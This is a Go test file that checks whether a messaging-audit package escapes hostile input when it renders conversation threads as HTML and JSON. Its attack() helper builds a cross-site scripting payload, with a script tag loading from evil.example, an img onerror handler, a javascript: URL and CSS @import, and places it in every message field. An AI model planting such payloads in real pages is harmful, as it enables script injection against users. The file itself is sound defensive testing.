package thread

import (
	"encoding/json"
	"fmt"
	"html"
	"reflect"
	"slices"
	"strings"
	"testing"

	"postern/audit"
	"postern/audit/journal"
)

// attack would run or load something wherever it is not text: in an element, an
// attribute in quotes or without, a comment, a style, a script, an address.
func attack(of string) string {
	return of + `" '> <script src=//evil.example/x></script></title></style><!--<img src=x onerror=alert(1)>{{.}}` + "`" + ` javascript:alert(1) url(https://evil.example) @import https://evil.example`
}

// allHostile is a conversation in which everything that a record, a person, an
// app or a provider may choose is an attack of its own.
func allHostile() (talk Thread, said []string) {
	bad := func(of string) string {
		said = append(said, attack(of))
		return attack(of)
	}
	more := func(kind string, keep ...string) map[string]any {
		m := map[string]any{}
		for _, name := range []string{"tenant", "app", "number", "actor", "direction", "category", "template", "effect", "reasons", "observed", "revision", "findings", "result", "type"} {
			if !slices.Contains(keep, name) {
				m[name] = attack(kind + "-" + name)
			}
		}
		return m
	}
	template := map[string]any{"name": bad("template-name"), "components": []any{
		map[string]any{"type": "header", "parameters": []any{map[string]any{"type": "document", "document": map[string]any{"filename": bad("header-file"), "mime_type": bad("header-mime")}}}},
		map[string]any{"type": "body", "parameters": []any{
			map[string]any{"type": "text", "text": bad("parameter")},
			map[string]any{"type": "currency", "currency": map[string]any{"fallback_value": bad("amount"), "code": "USD"}},
			map[string]any{"type": "date_time", "date_time": map[string]any{"fallback_value": bad("date")}},
		}},
		map[string]any{"type": "button", "parameters": []any{map[string]any{"type": "coupon_code", "coupon_code": bad("coupon")}}},
	}}
	text := func(v any) string {
		raw, err := json.Marshal(v)
		if err != nil {
			panic(err) // maps of texts
		}
		return string(raw)
	}
	document := map[string]any{"document": map[string]any{"filename": bad("file"), "mime_type": bad("mime"), "caption": bad("caption")}}
	list := map[string]any{"interactive": map[string]any{
		"header": map[string]any{"text": bad("header")}, "body": map[string]any{"text": bad("body")}, "footer": map[string]any{"text": bad("footer")},
		"action": map[string]any{"button": bad("button"), "parameters": map[string]any{"flow_cta": bad("cta")}, "sections": []any{
			map[string]any{"title": bad("section"), "rows": []any{map[string]any{"title": bad("row"), "description": bad("row-description")}}},
		}},
	}}
	rows := [][]any{
		record(0, "consent", "", "", more("consent")),
		record(1, "admission", "template", text(map[string]any{"template": template}), more("template", "type")),
		record(2, "admission", "document", text(document), more("document", "type")),
		record(3, "admission", "interactive", text(list), more("interactive", "type")),
		record(4, "inbound", "interactive", webhook(text(map[string]any{"interactive": map[string]any{"nfm_reply": map[string]any{"response_json": bad("answer")}}})), more("flow", "type")),
		record(5, "inbound", "text", bad("no JSON"), more("plain", "type")),
		record(11, "admission", "document", text(map[string]any{"document": map[string]any{ // within what redaction left
			"filename": "<u>***</u>", "caption": "[NAME:<script>1</script>] <b>***<i>",
		}}), nil),
		record(12, "admission", "text", "", map[string]any{"erased": int64(1)}),
		record(13, "revision", "text", text(map[string]any{"text": map[string]any{"body": bad("revised")}}), map[string]any{"ref": "idm", "id": bad("revision-id")}),
		record(6, "inbound", "location", webhook(text(map[string]any{"location": map[string]any{"latitude": 52.5, "label": "quill-label"}})), more("location", "type")),
		record(7, "unmatched_send", "", "", map[string]any{"id": bad("id")}),
		record(8, "status", "", "", map[string]any{"ref": "idb", "result": attack("status")}),
		record(9, "settle", "", "", map[string]any{"ref": "idc", "result": attack("settle")}),
		record(10, "inbound", "", webhook(`{"text":{"body":"of no known form"}}`), more("unknown")),
	}
	talk = Of(audit.NewSubjectID(), journal.Table{Columns: journal.SearchColumns(), Rows: rows})
	talk.Subject = bad("subject")
	return talk, append(said, attack("status"), attack("settle"), `"latitude":52.5`, "quill-label", "<mark><u>***</u></mark>", "<mark>[NAME:<script>1</script>]</mark> <mark><b>***<i></mark>")
}

// TestHostileInEveryField: whichever field holds markup, the page has none of it
// as markup, and all of it as text.
func TestHostileInEveryField(t *testing.T) {
	talk, said := allHostile()
	page := pageOf(t, talk)
	read := html.UnescapeString(page)
	for _, s := range said {
		if !strings.Contains(read, s) {
			t.Errorf("the page lacks what was said: %.30s", s)
		}
	}
	if !strings.Contains(page, `<meta name="referrer" content="no-referrer">`) {
		t.Error("a browser may say where the page lies")
	}
	if strings.Contains(style, "url(") || strings.Contains(style, "@import") {
		t.Error("the page's style points outside")
	}
}

// TestBothFormsSayTheSame: every fact of the JSON form is on the page, but the
// tenant, which is the reader's own, and what a body has besides words.
func TestBothFormsSayTheSame(t *testing.T) {
	for name, talk := range map[string]Thread{"hostile": func() Thread { talk, _ := allHostile(); return talk }(), "usual": collected(t)} {
		raw, err := json.Marshal(talk)
		if err != nil {
			t.Fatal(err)
		}
		var form struct {
			Messages []map[string]any `json:"messages"`
		}
		if err := json.Unmarshal(raw, &form); err != nil {
			t.Fatal(err)
		}
		var b strings.Builder
		if err := talk.HTML(&b); err != nil {
			t.Fatal(err)
		}
		page := html.UnescapeString(strings.NewReplacer("<mark>", "", "</mark>", "").Replace(b.String()))
		articles := strings.Split(page, "<article ")[1:]
		if len(articles) != len(form.Messages) || len(articles) == 0 {
			t.Fatalf("%s: %d articles for %d messages", name, len(articles), len(form.Messages))
		}
		for i, m := range form.Messages {
			delete(m, "tenant")
			delete(m, "content")
			for fact := range facts(m) {
				if !strings.Contains(articles[i], fact) {
					t.Errorf("%s: message %d has %.40q in one form alone", name, i, fact)
				}
			}
		}
	}
}

// TestJSONForm: a program reads what a person reads on the page, under these
// names.
func TestJSONForm(t *testing.T) {
	raw, err := json.Marshal(collected(t).Messages[2])
	if err != nil {
		t.Fatal(err)
	}
	var got map[string]any
	if err := json.Unmarshal(raw, &got); err != nil {
		t.Fatal(err)
	}
	delete(got, "content")
	at := func(n int) string { return instant(int64(n)) }
	want := map[string]any{
		"id": "idd", "seq": 3.0, "time": at(3), "kind": "admission", "type": "document", "direction": "outbound", "app": hostile, "template": hostile,
		"text": hostile, "files": []any{map[string]any{"type": "document", "name": "invoice.pdf", "mime": "application/pdf"}},
		"changed": true, "findings": "PERSON_NAME:1",
		"decision": map[string]any{"effect": "allow", "reasons": []any{"ok", "quiet_hours"}, "observed": []any{"night"}, "policy": "rev1"},
		"outcomes": []any{
			map[string]any{"time": at(4), "kind": "settle", "result": "accepted"}, map[string]any{"time": at(5), "kind": "status", "result": "read"},
			map[string]any{"time": at(6), "kind": "delivery", "result": "delivered", "code": 200.0},
		},
	}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("got  %v\nwant %v", got, want)
	}
}

// facts are the texts and numbers in a decoded JSON value.
func facts(v any) map[string]bool {
	out := map[string]bool{}
	switch v := v.(type) {
	case map[string]any:
		for _, item := range v {
			for fact := range facts(item) {
				out[fact] = true
			}
		}
	case []any:
		for _, item := range v {
			for fact := range facts(item) {
				out[fact] = true
			}
		}
	case string:
		for line := range strings.SplitSeq(v, "\n") {
			out[line] = true
		}
	case float64:
		out[fmt.Sprintf("%.0f", v)] = true
	}
	return out
}
